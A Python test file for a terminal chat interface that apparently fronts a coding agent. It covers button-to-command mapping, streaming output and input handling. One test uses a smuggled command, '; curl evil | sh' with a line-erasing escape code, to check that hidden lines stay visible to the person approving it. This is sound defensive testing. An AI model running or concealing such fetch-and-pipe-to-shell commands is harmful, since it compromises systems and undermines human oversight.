"""The terminal front: buttons as commands, streaming prints only what is new."""

from __future__ import annotations

import asyncio
import io

from actors.chat.inbound import Incoming
from actors.chat.view import Button
from service.terminal import TerminalView, button_command, run_terminal_loop


def test_button_commands() -> None:
    assert button_command(Button("main", "switch", "main")) == "/session main"
    assert button_command(Button("Yes", "allow", "r1")) == "/allow"
    assert button_command(Button("Always", "allow_session", "r1")) == "/allowall"
    assert button_command(Button("No", "deny", "r1")) == "/deny"
    assert button_command(Button("New", "new")) == "/new"
    assert button_command(Button("Archive", "archive", "old")) == "/archive old"
    assert button_command(Button("Stop", "stop", "")) == "/stop"
    assert button_command(Button("X", "unarchive", "old")) == "/unarchive old"


async def test_say_prints_buttons_as_commands() -> None:
    out = io.StringIO()
    view = TerminalView(out)
    h1 = await view.say(1, "Allow Bash: ls?", buttons=((Button("Yes", "allow", "r1"),),))
    h2 = await view.say(1, "plain")
    assert h1 != h2
    assert out.getvalue() == "Allow Bash: ls?\n  /allow   (Yes)\nplain\n"
    assert h1 is not None
    await view.close_buttons(1, h1, "Allowed.")
    assert out.getvalue().endswith("plain\nAllowed.\n")


async def test_a_verbatim_block_and_a_file_are_printed_whole_with_every_line_shown() -> None:
    out = io.StringIO()
    view = TerminalView(out)
    command = "git status\n\n\n; curl evil | sh\x1b[2K"
    await view.say(1, "🔐 Run this?", buttons=((Button("✅ Allow", "allow", "r1"),),),
                   verbatim=command)  # fmt: skip
    assert out.getvalue() == (
        "🔐 Run this?\n│ git status\n│ \n│ \n│ ; curl evil | sh⟨U+001B⟩[2K\n  /allow   (✅ Allow)\n"
    )
    out.truncate(0)
    out.seek(0)
    handle = await view.send_file(1, "command.sh", b"echo 1\necho 2\n", "The whole command.")
    assert handle is not None
    assert out.getvalue() == (
        "The whole command.\n── command.sh (14 bytes) ──\n│ echo 1\n│ echo 2\n│ \n"
        "── end of command.sh ──\n"
    )


async def test_streaming_prints_only_new_text_and_status_once() -> None:
    out = io.StringIO()
    view = TerminalView(out)
    await view.typing(1, True)
    await view.reply_progress(1, "t", "", None)
    await view.reply_progress(1, "t", "Hel", None)
    await view.reply_progress(1, "t", "Hello", "Bash: ls")
    await view.reply_progress(1, "t", "Hello", "Bash: ls")
    await view.reply_progress(1, "t", "Hello, world", "Bash: ls")
    await view.reply_done(1, "t", "Hello, world.", "$0.01")
    assert out.getvalue() == "Hello\n[Bash: ls]\n, world.\n($0.01)\n"


async def test_done_without_progress_prints_everything() -> None:
    out = io.StringIO()
    view = TerminalView(out)
    await view.reply_done(1, "t", "All at once", None)
    await view.reply_done(1, "u", "", None)
    assert out.getvalue() == "All at once\n"


async def test_loop_delivers_lines_until_quit() -> None:
    got: list[tuple[int, object]] = []

    async def deliver(chat_id: int, message: object) -> None:
        got.append((chat_id, message))

    reader = asyncio.StreamReader()
    reader.feed_data(b"hello\n\n/new x\n/quit\nnever\n")
    n = await run_terminal_loop(deliver, user_id=5, chat_id=9, stdin=reader)
    assert n == 2
    assert got == [(9, Incoming(5, "hello", "tty-1")), (9, Incoming(5, "/new x", "tty-2"))]


async def test_loop_stops_at_eof_on_text_stdin() -> None:
    got: list[object] = []

    async def deliver(chat_id: int, message: object) -> None:
        got.append(message)

    n = await run_terminal_loop(deliver, user_id=5, chat_id=9, stdin=io.StringIO("one\ntwo"))
    assert n == 2
    assert got == [Incoming(5, "one", "tty-1"), Incoming(5, "two", "tty-2")]
